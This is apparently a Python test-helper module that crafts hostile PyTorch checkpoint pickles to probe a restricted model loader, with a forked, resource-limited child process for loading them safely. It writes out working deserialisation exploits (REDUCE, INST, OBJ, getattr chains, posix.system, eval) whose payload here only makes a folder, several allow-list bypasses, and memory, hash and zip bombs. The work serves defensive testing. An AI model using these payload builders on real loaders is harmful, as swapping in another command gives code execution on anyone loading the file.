"""Checkpoints that attack whoever loads them: each kind in a file of its own, and a place to load them safely.

The attack of most is to make a folder (`os.mkdir`, which is `posix.mkdir`); the others crash, hang or fill the memory.
"""

from __future__ import annotations

import contextlib
import io
import os
import pickle
import resource
import signal
import struct
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import torch

SECONDS, MEMORY = 10, 2 * 2**30
TWO = b"\x80\x02"


def zipped(pickled: bytes, path: Path, compression: int = zipfile.ZIP_STORED, **others: bytes) -> Path:
    """A torch archive around any pickle."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        for name, content in others.items():
            archive.writestr(f"archive/{name}", content)
    return path


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + struct.pack("<B", len(raw)) + raw


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(value: int) -> bytes:
    """BININT."""
    return b"J" + struct.pack("<i", value)


def name(full: str) -> bytes:
    """GLOBAL."""
    module, _, attribute = full.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def storage(elements: int, key: str = "0", kind: str = "FloatStorage") -> bytes:
    """A reference to `data/<key>`."""
    return b"(" + text("storage") + name(f"torch.{kind}") + text(key) + text("cpu") + number(elements) + b"tQ"


def tensor(elements: int, shape: bytes, strides: bytes) -> bytes:
    """A tensor over a storage of so many elements."""
    arguments = storage(elements) + b"K\x00" + shape + strides + b"\x89" + name("collections.OrderedDict") + b")R"
    return name("torch._utils._rebuild_tensor_v2") + b"(" + arguments + b"tR"


def running(target: str) -> dict[str, bytes]:
    """Pickles that run code where nothing restricts them."""
    made = f"V{target}\n".encode()
    put_together = short("os") + short("mkdir") + b"\x93"
    code = f"__import__('os').mkdir({target!r}) or torch.nn.SiLU()"
    backbone = [[-1, 1, "Conv", [8, 3, 2]]]
    yaml = {"nc": 1, "activation": code, "backbone": backbone, "head": [[[0], 1, "Detect", ["nc"]]]}
    plain = pickle.dumps(yaml, 2)[2:-1]
    model = name("ultralytics.nn.tasks.DetectionModel")
    space = name("types.SimpleNamespace")
    return {
        "reduce": TWO + name("posix.mkdir") + text(target) + b"\x85R.",
        "protocol 0": b"cposix\nmkdir\n(" + made + b"tR.",
        "shell": b"cposix\nsystem\n(Vmkdir " + target.encode() + b"\ntR.",
        "python 2 names": b"c__builtin__\neval\n(V__import__('os').mkdir(" + repr(target).encode() + b")\ntR.",
        "inst": b"(" + made + b"iposix\nmkdir\n.",
        "obj": b"(cposix\nmkdir\n" + made + b"o.",
        "names on the stack": b"\x80\x04" + put_together + short(target) + b"\x85R.",
        "names in the memo": b"\x80\x04" + short("mkdir") + b"\x940" + short("os") + b"h\x00\x93" + short(target)
        + b"\x85R.",
        "memo overwritten": b"\x80\x04" + short("collections") + b"q\x000" + short("os") + b"q\x000"
        + b"h\x00" + short("mkdir") + b"\x93" + short(target) + b"\x85R.",
        "through a module": b"\x80\x04" + short("torch.serialization") + short("os.mkdir") + b"\x93" + short(target)
        + b"\x85R.",
        "getattr chain": TWO + name("builtins.getattr") + name("importlib.import_module") + text("posix") + b"\x85R"
        + text("mkdir") + b"\x86R" + text(target) + b"\x85R.",
        "append in the instance": TWO + space + b")\x81}" + text("append") + name("posix.mkdir") + b"sb"
        + text(target) + b"a.",
        "appends in the instance": TWO + space + b")\x81}" + text("append") + name("posix.mkdir") + b"sb("
        + text(target) + b"e.",
        "setstate in the instance": TWO + space + b")\x81}" + text("__setstate__") + name("posix.mkdir") + b"sb"
        + text(target) + b"b.",
        "newobj with keywords": b"\x80\x04" + name("torch.nn.modules.activation.SiLU") + b")}" + short("a")
        + name("posix.mkdir") + short(target) + b"\x85Rs\x92.",
        "model from a yaml": TWO + model + plain + b"\x85R.",
        "nested": b"ctorch.storage\n_load_from_bytes\n(cbuiltins\nbytes\n(]" + b"".join(
            b"K" + bytes([value]) + b"a" for value in _nested(target)) + b"tRtR.",
        "loads of loads": name("pickle.loads") + b"(c_codecs\nencode\n(Vcposix\\u000amkdir\\u000a(V" + target.encode()
        + b"\\u000atR.\nVlatin1\ntRtR.",
    }  # fmt: skip


def _nested(target: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", b"cposix\nmkdir\n(V" + target.encode() + b"\ntR.")
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return stream.getvalue()


def past_the_allow_list(folder: Path, target: str) -> dict[str, bytes]:
    """Pickles of names that the restricted loader allows, and that do harm under it."""
    second = zipped(running(target)["reduce"], folder / "second.pt")
    namespace = name("ultralytics.utils.IterableSimpleNamespace")
    student = namespace + b")\x81}" + text("yaml") + b"}sb"
    doubling = b"K\x00\x85" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    return {
        "another file": TWO + name("ultralytics.nn.distill_model.DistillationModel") + text(str(second)) + student
        + b"\x86R.",
        "a download": TWO + name("ultralytics.nn.modules.block.TorchVision") + text("resnet18") + b"\x85R.",
        "a method": TWO + name("torch._tensor._rebuild_from_type_v2") + b"(" + name("builtins.getattr")
        + name("ultralytics.nn.tasks.WorldModel") + text("get_text_pe") + b"\x86R" + name("torch.Tensor") + b"(tNtR.",
        "a class as a hook": TWO + name("torch.nn.modules.activation.SiLU") + b")\x81}" + text("_forward_hooks")
        + b"}K\x00" + name("ultralytics.nn.modules.block.TorchVision") + b"ssb.",
        "magic of a parameter": TWO + name("torch._utils._rebuild_parameter_with_state") + b"("
        + tensor(1, b"K\x01\x85", b"K\x01\x85") + b"\x88" + name("collections.OrderedDict") + b")R}"
        + text("__class__") + b"Ns" + b"tR.",
        "memory by a number": TWO + name("builtins.bytearray") + b"\x8a\x05\x00\x00\x00\x00\x02\x85R.",
        "memory by a layer": TWO + name("torch.nn.modules.conv.Conv2d") + b"M\xff\xffM\xff\xffK\x03\x87R.",
        "memory by strides": TWO + b"}" + text("model")
        + tensor(1, number(2**17) + number(2**17) + b"\x86", b"K\x00K\x00\x86") + b"s.",
        "a storage that lies": TWO + tensor(2**30, number(2**30) + b"\x85", b"K\x01\x85") + b".",
        "state of a loop": TWO + name("torch.nn.modules.rnn.LSTM") + b")\x81}(" + text("_all_weights") + b"]]K\x00aa"
        + text("num_layers") + number(2**31 - 1) + text("bidirectional") + b"\x89" + text("bias") + b"\x88"
        + text("proj_size") + b"K\x00ub.",
        "hash bomb": TWO + b"}" + doubling + b"Ns.",
        "hash bomb in a set": TWO + name("builtins.set") + b"]" + doubling + b"a\x85R.",
        "hash bomb as a storage": TWO + b"(" + text("storage") + name("torch.FloatStorage") + doubling + text("cpu")
        + b"K\x00tQ.",
        "deep key": TWO + b"})" + b"\x85" * 2_000_000 + b"Ns.",
        "deep tuple": TWO + b")" + b"\x85" * 2_000_000 + b".",
        "deep lists": TWO + b"]" * 100_000 + b"a" * 99_999 + b".",
        "deep from the top": TWO + b"]q\x00" + b"h\x00]q\x00a0h\x00" * 100_000 + b".",
        "numbers of one hash": TWO + b"}(" + b"".join(
            b"\x8a\x14" + (key * (2**61 - 1)).to_bytes(20, "little") + b"N" for key in range(1, 60_000)) + b"u.",
        "numpy object": TWO + name("numpy.core.multiarray.scalar") + b"(" + name("numpy.dtype") + b"(" + text("O8")
        + b"\x89\x88tR" + text("x") + b"tR.",
        "numpy type that lies": TWO + name("numpy.core.multiarray.scalar") + b"(" + name("numpy.dtype") + b"("
        + text("V8") + b"\x89\x88tR(K\x03" + text("|") + b"NNN" + number(2**30) + b"K\x01K\x00tb"
        + name("_codecs.encode") + b"(" + text("xxxxxxxx") + text("latin1") + b"tRtR.",
        "numpy size that lies": TWO + name("numpy.dtype") + b"(" + text("f8") + b"\x89\x88tR(K\x03" + text("<")
        + b"NNN" + number(2**30) + b"K\x01K\x00tb.",
        "more than any network": TWO + b"]" + b"Na" * 5_000_000 + b".",
        "calls without end": TWO + b"](" + (name("collections.OrderedDict") + b")R") * 1_000_000 + b"e.",
    }  # fmt: skip


def broken(target: str) -> dict[str, bytes]:
    """Pickles of opcodes that torch never writes, or that end somewhere."""
    return {
        "dup": b"\x80\x02})" + b"2\x86" * 40 + b"Ns.",
        "extension": b"\x80\x02\x82\x01.",
        "persistent text": b"P" + target.encode() + b"\n.",
        "module by reference": b"\x80\x02(" + text("module") + name("posix.mkdir") + text("a") + text("b") + b"tQ.",
        "reconstructor": b"\x80\x02ccopyreg\n_reconstructor\n(cultralytics.nn.tasks\nDetectionModel\n"
        b"cultralytics.nn.tasks\nDetectionModel\n}tR.",
        "giant text": b"\x80\x02X\xff\xff\xff\xff.",
        "giant bytes": b"\x80\x04\x8e\x00\x00\x00\x00\x00\x00\x00\x40.",
        "giant number": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "buffer": b"\x80\x05\x97.",
        "state of a class": TWO + name("ultralytics.nn.modules.conv.Conv") + b"}" + text("default_act") + b"Nsb.",
        "magic state": TWO + name("torch.nn.modules.activation.SiLU") + b")\x81}" + text("__class__") + b"Nsb.",
        "never put down": b"\x80\x02h\x07.",
        "ends": b"\x80\x02}",
        "empty": b"",
    }  # fmt: skip


def other_files(folder: Path, target: str) -> dict[str, Path]:
    """Files of other kinds under a checkpoint's name."""
    attack = running(target)["reduce"]
    head = [torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True}]
    found = {key: folder / f"{key}.pt" for key in ("legacy", "bare", "prefixed", "image")}
    found["legacy"].write_bytes(b"".join(pickle.dumps(item, 2) for item in head) + attack + pickle.dumps([], 2))
    found["bare"].write_bytes(attack)
    found["prefixed"].write_bytes(b"#!" + zipped(attack, folder / "inner.pt").read_bytes())
    found["image"].write_bytes(b"GIF89a")
    found["tar"] = folder / "tar.pt"
    with tarfile.open(found["tar"], "w") as archive:
        archive.add(found["bare"], "pickle")
        archive.add(found["bare"], "storages")
    found["script"] = folder / "script.pt"
    torch.jit.save(torch.jit.script(torch.nn.ReLU()), str(found["script"]))
    zeros = b"\0" * 2**28
    swelling = TWO + b"X" + struct.pack("<I", len(zeros)) + zeros + b"."
    found["bomb"] = zipped(swelling, folder / "bomb.pt", zipfile.ZIP_DEFLATED)
    found["bomb in a record"] = folder / "record.pt"
    zipped(TWO + b"}.", found["bomb in a record"], zipfile.ZIP_DEFLATED, **{"data/0": zeros})
    found["zip in a zip"] = zipped(found["bomb"].read_bytes()[:1000], folder / "zip.pt")
    return found


def in_a_child(do: Callable[[], object], seconds: float = SECONDS, memory: int = MEMORY) -> tuple[int, str]:
    """Call `do` in a copy of this process with so much more memory and so much time: (exit status, what it wrote).

    The status is 0, or the signal's number below zero where it was ended by one.
    """
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        _limited(do, writing, seconds, memory)
    os.close(writing)
    with os.fdopen(reading, "rb") as stream:
        said = stream.read()
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), said.decode()


def _limited(do: Callable[[], object], writing: int, seconds: float, memory: int) -> None:
    said = "nothing"
    with contextlib.suppress(BaseException):
        used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
        resource.setrlimit(resource.RLIMIT_AS, (used + memory,) * 2)
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.setitimer(signal.ITIMER_REAL, seconds)
        try:
            said = f"returned {do()!r}"
        except BaseException as error:  # noqa: BLE001  that is what is asked for
            said = f"{type(error).__name__}: {error}"
    os.write(writing, said.encode("utf-8", "backslashreplace")[:60_000])
    os._exit(0)


@contextlib.contextmanager
def quick(seconds: float = SECONDS) -> Iterator[None]:
    """The block takes no longer."""
    began = time.monotonic()
    yield
    assert time.monotonic() - began < seconds
